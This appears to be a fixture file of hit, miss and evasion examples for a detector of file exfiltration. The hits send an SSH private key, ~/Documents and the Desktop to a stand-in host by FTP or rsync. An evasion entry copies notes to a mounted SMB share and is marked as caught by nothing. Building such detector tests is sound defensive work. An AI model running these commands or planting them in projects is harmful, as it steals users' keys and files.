import type { Examples } from "@doorward/core";

const manifest =
  '{ "name": "shop", "version": "1.0.0", "main": "server.js", "scripts": { "start": "node server.js" } }\n';

/** Files that leave by FTP or SSH: a person's, and a build's. */
export const examples: Examples = {
  hits: [
    {
      name: "a key by FTP",
      files: {
        "main.py": `import ftplib, os
f = ftplib.FTP("files.example")
f.storbinary("STOR k", open(os.path.expanduser("~/.ssh/id_rsa"), "rb"))
`,
      },
    },
    { name: "documents by rsync", files: { "setup.sh": "rsync -a ~/Documents me@files.example:/in\n" } },
    {
      name: "the desktop from Node.js",
      files: {
        "package.json": manifest,
        "server.js": `const { Client } = require("basic-ftp");
const client = new Client();
client.access({ host: "files.example" });
client.uploadFromDir(require("os").homedir() + "/Desktop");
`,
      },
    },
  ],
  misses: [
    {
      name: "a deployment by rsync",
      why: "What is sent was built in the project.",
      files: { "deploy.sh": "rsync -a dist/ me@host.example:/var/www\n" },
    },
    {
      name: "a deployment by FTP",
      why: "What is sent was built in the project.",
      files: {
        "package.json": manifest,
        "server.js": `const { Client } = require("basic-ftp");
const client = new Client();
client.access({ host: "host.example" });
client.uploadFromDir("./dist");
`,
      },
    },
    {
      name: "a download",
      why: "Files come in and none go out.",
      files: { "get.sh": "scp me@host.example:/var/log/app.log .\n" },
    },
  ],
  evasions: [
    {
      name: "a copy onto a share that is mounted",
      caughtBy: "nothing",
      files: { "setup.sh": "mount_smbfs //guest@files.example/in /tmp/m && cp ~/notes/* /tmp/m\n" },
    },
  ],
};
